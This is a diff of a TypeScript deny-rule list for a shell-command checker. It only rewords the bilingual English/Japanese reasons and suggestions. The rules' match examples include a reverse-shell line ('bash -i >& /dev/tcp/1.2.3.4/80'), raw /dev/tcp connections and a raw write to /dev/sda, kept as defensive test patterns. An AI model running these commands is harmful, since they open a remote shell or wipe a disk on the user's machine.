@@ -31,7 +31,7 @@ export const constructRules: readonly ConstructRule[] = [
   {
     id: 'too-deep',
     decision: 'deny',
-    because: text('it is nested too deeply to be read', '入れ子が深すぎて読めません'),
+    because: text('it is nested too deeply to be read', '入れ子が深すぎて解析できません'),
     suggestion: text('Split it into simpler commands.', '簡単なコマンドに分けてください。'),
     match: [`${'if ls; then '.repeat(100)}ls${'; fi'.repeat(100)}`],
     notMatch: ['(((ls)))', '(ls)'],
@@ -41,7 +41,7 @@ export const constructRules: readonly ConstructRule[] = [
     decision: 'deny',
     because: text(
       'shells read this in different ways, or it cannot be written out unambiguously',
-      'シェルによって読み方が異なるか、明確な形に書き直せません',
+      'シェルによって解釈が異なるか、一意に書き直せません',
     ),
     suggestion: text(
       'Put quotes around words that are data, and a blank before `<(…)`.',
@@ -123,7 +123,10 @@ export const constructRules: readonly ConstructRule[] = [
   {
     id: 'foreign-shell',
     decision: 'deny',
-    because: text('scripts of this shell are not read here', 'このシェルのスクリプトはここでは読めません'),
+    because: text(
+      'scripts of this shell are not read here',
+      'このシェルのスクリプトは、ここでは解析できません',
+    ),
     suggestion: text('Use `bash -c`.', '`bash -c` を使ってください。'),
     match: ['fish -c ls', 'pwsh -Command ls', 'cmd /c dir', 'tcsh -c ls'],
     notMatch: ['fish --version', 'bash -c ls'],
@@ -136,7 +139,7 @@ export const constructRules: readonly ConstructRule[] = [
       '通常の `sh` はこれを bash とは異なる意味に読みます',
     ),
     suggestion: text(
-      "Write it for POSIX sh; where there is a bash, `bash -c '…'` takes it.",
+      "Write it for POSIX sh, or use `bash -c '…'` if bash is installed.",
       "POSIX sh の書き方にしてください。bash があれば `bash -c '…'` で実行できます。",
     ),
     match: [
@@ -234,7 +237,7 @@ export const constructRules: readonly ConstructRule[] = [
   {
     id: 'device-write',
     decision: 'deny',
-    because: text('it writes to a device of the machine', '機器のデバイスに書き込みます'),
+    because: text('it writes to a device of the machine', 'マシンのデバイスに書き込みます'),
     suggestion: text('Write to a file in the workspace.', 'ワークスペース内のファイルに書き込んでください。'),
     match: [
       'echo x > /dev/sda',
@@ -249,9 +252,12 @@ export const constructRules: readonly ConstructRule[] = [
   {
     id: 'network-device',
     decision: 'deny',
-    because: text('bash opens a connection for this path', 'bash はこのパスで通信を開きます'),
+    because: text(
+      'bash opens a network connection for this path',
+      'bash はこのパスでネットワーク接続を開きます',
+    ),
     suggestion: text(
-      'Use a program for the network, such as curl.',
+      'Use a network program such as curl.',
       'curl などネットワーク用のプログラムを使ってください。',
     ),
     match: ['bash -i >& /dev/tcp/1.2.3.4/80', 'cat < /dev/tcp/a/80', 'exec 3<>/dev/tcp/a/80'],
